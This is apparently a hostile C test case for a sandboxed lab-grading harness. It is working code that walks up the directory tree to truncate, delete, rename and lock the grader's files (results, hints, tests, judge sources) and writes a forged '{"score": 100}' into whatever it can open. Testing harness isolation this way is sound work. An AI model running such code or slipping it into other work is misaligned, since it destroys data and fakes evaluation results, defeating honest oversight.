/* Attack: writes into the tree it came from, the results, and whatever is open.
 * Labs: 02 08
 * Isolated: yes */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void spoil(const char *path)
{
    int file = open(path, O_RDWR | O_APPEND);

    chmod(path, 0);
    truncate(path, 0);
    unlink(path);
    rename(path, "stolen");
    if (file != -1)
        dprintf(file, "{\"score\": 100}\n");
}

/* In `folder` and the five above it. */
static void spoil_around(char *folder)
{
    static const char *const names[] = {"hostile.c",
                                        "results.json",
                                        "results.json.new",
                                        "hints.json",
                                        "Makefile",
                                        "labs/02/x.c",
                                        "solutions",
                                        "tests",
                                        "build",
                                        "suite",
                                        "build/grade",
                                        "tests/harness",
                                        "labs/08-serial/serial.c",
                                        "lock",
                                        "tests/judge/main.c",
                                        "build/gcc/tests/judge/build/builder"};

    for (int up = 0; up < 6; up++) {
        for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
            char path[5000];

            snprintf(path, sizeof path, "%s/%s", folder, names[i]);
            spoil(path);
        }
        *(strrchr(folder, '/') ? strrchr(folder, '/') : folder) = '\0';
    }
}

static void attack(void)
{
    static char folder[4096] = __FILE__;

    spoil(__FILE__);
    spoil("/proc/self/exe");
    spoil("/proc/self/fd/1");
    spoil_around(folder);
    if (readlink("/proc/self/exe", folder, sizeof folder - 1) > 0)
        spoil_around(folder);
}
